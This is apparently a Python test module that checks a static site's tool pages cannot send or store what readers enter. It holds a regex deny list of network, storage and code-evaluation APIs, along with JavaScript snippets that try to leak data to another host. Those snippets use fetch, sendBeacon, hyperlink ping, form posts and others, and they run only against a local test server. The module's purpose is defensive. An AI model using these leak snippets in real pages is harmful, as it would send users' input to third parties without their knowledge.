"""Every way in which a page could send or store what a reader fills in: the tests look for it in the scripts, and try it in the page."""

import contextlib
import http.server
import re
import threading

# What a script may not contain, and what it could do with it. The browser's policy also refuses some of it (see ATTEMPTS); only this list keeps out
# the rest.
FORBIDDEN = {
    r"\bfetch\b|XMLHttpRequest|sendBeacon|WebSocket|EventSource|WebTransport": "asks or tells a server",
    r"RTC\w*|peerconnection": "tells another computer; no browser lets a page's policy refuse it everywhere",
    r"\bImage\s*\(|\bAudio\s*\(|FontFace|\bsrc(set)?\b|\bposter\b|url\s*\(": "loads what an address names, and so tells the address",
    r"(?<!role: )(?<!=== )[\"'](img|image|iframe|frame|object|embed|video|audio|source|track|link|script|style|base|meta|form|use|feImage|portal|fencedframe)[\"']": "an element that loads or sends",
    r"\blocation\b(?!\.hash\.slice\(1\)\))|\bnavigation\b|(?<!function )(?<![.\w])open\s*\(|(window|self|top|parent|opener)\s*\.\s*(open|name)\b|\bopener\b": "goes to an address; no policy refuses it",
    r"(?<!revokeObjectURL\(link\.)(?<!onSite\(problem\.)\bhref\b(?!: (URL\.createObjectURL|onSite)\()|\bxlink\b|\bping\b": "a link to anywhere but a file for the reader, or a page that this page named before",
    r"\bsubmit\b|requestSubmit|\bform[aA]ction\b|\baction\s*=": "sends a form",
    r"pushState|replaceState|document\s*\.\s*(title|URL|domain|write)": "leaves a trace in the history, or writes code",
    r"localStorage|sessionStorage|indexedDB|\bcaches\b|cookie|\bnavigator\b|FileSystem|show(Save|Open|Directory)\w+": "keeps it in the browser, or gives it to the device",
    r"postMessage|BroadcastChannel|MessageChannel|\bWorker\b|SharedWorker|serviceWorker|importScripts|execCommand|clipboard": "tells another page or program",
    r"\beval\b|\bFunction\s*\(|\bimport\b|innerHTML|outerHTML|insertAdjacentHTML|setHTML|DOMParser|createContextualFragment|trustedTypes|srcdoc": "makes code of words",
    r"(window|self|globalThis|document|top|parent|this)\s*\[|\bglobalThis\b|\bReflect\b|\\x|\\u00|fromCodePoint": "hides what it names",
}
# What the scanner must find, or it proves nothing; below it, what the scanner must let pass.
BAD = (
    """
fetch("x")|new XMLHttpRequest()|navigator.sendBeacon(a, b)|new WebSocket(a)|new EventSource(a)|new WebTransport(a)|new RTCPeerConnection(c)
new Image().alt|el("img", {})|el('link', {rel: 1})|x.src = a|x.setAttribute("src", a)|svg("image", {})|el("form", {})|el("iframe")
location = a|window.location.href = a|window.open(a)|open(a)|top.name = a|el("a", { href: a })|link.href = a|x.ping = a|f.submit()
history.pushState(a)|document.title = a|localStorage.a = 1|indexedDB.open(a)|document.cookie = a|navigator.share(a)|caches.open(a)
postMessage(a)|new BroadcastChannel(a)|new Worker(a)|eval(a)|Function("a")|import("a")|x.innerHTML = a|window["fe" + "tch"](a)|this["x"]|navigator["share"]
navigator.clipboard.writeText(a)|x.style.background = "url(" + a|new FontFace(a)|globalThis.x|"\\x66etch"|showSaveFilePicker()
""".strip()
    .replace("\n", "|")
    .split("|")
)
GOOD = [
    "link.click();",
    'el("a", { href: onSite(page) })',
    'el("a", { href: URL.createObjectURL(blob), download: name })',
    "await tweeluik.open({ kind, read })",
    "async function open({ kind }) {",
    "Object.assign(work, {})",
    'typeof value === "object"',
    'role: "img"',
    "new URLSearchParams(location.hash.slice(1)).get(name)",
    "  // It cannot fetch.",
    'text("open")',
    "window.crypto",
    "this.x",
    "form()",
]


def scanned(script):
    """What a script contains, outside its comments, that could send or store something."""
    script = re.sub(r"^\s*//.*", "", script, flags=re.M)
    return [f"“{match[0]}” {why}" for pattern, why in FORBIDDEN.items() for match in re.finditer(pattern, script)]


def the_scanner_sees():
    return [f"the scanner does not see {bad}" for bad in BAD if not scanned(bad)] + [
        f"the scanner takes {good} for {scanned(good)[0]}" for good in GOOD if scanned(good)
    ]


# Each attempt tries to tell `url` to another host, from within the page. It may return a promise, because some attempts are refused a moment later.
ATTEMPTS = {
    "fetch": "url => fetch(url, { mode: 'no-cors' })",
    "fetch that outlives the page": "url => fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'L01' })",
    "XMLHttpRequest": "url => { const one = new XMLHttpRequest(); one.open('POST', url); one.send('L01'); }",
    "sendBeacon": "url => navigator.sendBeacon(url, 'L01')",
    "WebSocket": "url => new WebSocket(url.replace('http', 'ws'))",
    "EventSource": "url => new EventSource(url)",
    "image": "url => { new Image().src = url; }",
    "style sheet": "url => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url }))",
    "background": "url => { document.body.style.backgroundImage = `url(${url})`; }",
    "font": "url => new FontFace('one', `url(${url})`).load()",
    "prefetch": "url => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }))",
    "preload": "url => document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: url }))",
    "frame": "url => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))",
    "video": "url => document.body.append(Object.assign(document.createElement('video'), { src: url, preload: 'auto' }))",
    "object": "url => document.body.append(Object.assign(document.createElement('object'), { data: url }))",
    "script": "url => document.body.append(Object.assign(document.createElement('script'), { src: url }))",
    "ping": "url => { const one = Object.assign(document.createElement('a'), { href: '#tool_app', ping: url }); document.body.append(one); one.click(); }",
    "form": "url => { const one = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'elsewhere' });"
    " document.body.append(one); one.submit(); }",
}
# What no policy refuses in Chromium: leaving the page, opening a window, looking up or greeting a host (preconnect), and calling another computer
# (WebRTC, which asks a STUN server over UDP; Chromium does not know the directive `webrtc`). We have two guards: no script contains these, and none
# is called while a tool is used. The same holds for whatever is loaded from the site's own host, which could tell that host something.
SPY = """
window.used = [];
const spy = (owner, name) => {
  const own = owner[name];
  owner[name] = new Proxy(own, {
    apply: (_, self, values) => { used.push(name); return Reflect.apply(own, self, values); },
    construct: (_, values) => { used.push(name); return Reflect.construct(own, values); },
  });
};
["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "RTCPeerConnection", "WebTransport", "open", "Image", "Worker", "SharedWorker",
  "BroadcastChannel", "FontFace", "postMessage"].forEach(name => window[name] && spy(window, name));
[[Navigator.prototype, "sendBeacon"], [History.prototype, "pushState"], [History.prototype, "replaceState"], [HTMLFormElement.prototype, "submit"],
  [HTMLFormElement.prototype, "requestSubmit"], [IDBFactory.prototype, "open"], [Storage.prototype, "setItem"]].forEach(pair => spy(...pair));
const make = Document.prototype.createElement;
Document.prototype.createElement = function (name, ...rest) {
  if (/^(img|iframe|object|embed|video|audio|link|script|form|style|base|meta)$/i.test(name)) used.push(name);
  return make.call(this, name, ...rest);
};
"""
# Anything that is stored in the browser in spite of all this.
KEPT = """async () => [localStorage.length + sessionStorage.length, document.cookie, (await indexedDB.databases()).length].join() === "0,,0"
  ? [] : ["something is kept in the browser"]"""


class Witness:
    """Another host, which knows what has reached it."""

    def __init__(self):
        self.asked = []
        witness = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                witness.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<!DOCTYPE html><title>-</title><body>")

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}/"


@contextlib.contextmanager
def witness():
    one = Witness()
    threading.Thread(target=one.server.serve_forever, daemon=True).start()
    try:
        yield one
    finally:
        one.server.shutdown()
        one.server.server_close()


def tried(page, attempts, other):
    """The attempts that reached the other host."""
    other.asked.clear()
    for number, attempt in enumerate(attempts.values()):
        page.evaluate(
            f"async url => {{ try {{ const done = ({attempt})(url); if (done instanceof Promise) done.catch(() => 0); }} catch (error) {{}} }}",
            f"{other.address}told-{number}",
        )
    page.wait_for_timeout(1000)
    return [name for number, name in enumerate(attempts) if f"/told-{number}" in other.asked]


def tool_pages(site, has_all_plans=False):
    """The pages that have a tool. Plans of approach differ only in their words, so one of them is enough, unless all are asked for."""
    pages = [path for path in sorted(site.rglob("*.html")) if 'id="tool_data"' in path.read_text()]
    # One in the site's own language stands for those in others.
    plans = sorted((path for path in pages if '"kind":"plan"' in path.read_text()), key=lambda path: path.name != "plan.html")
    return [path for path in pages if has_all_plans or path not in plans[1:]]
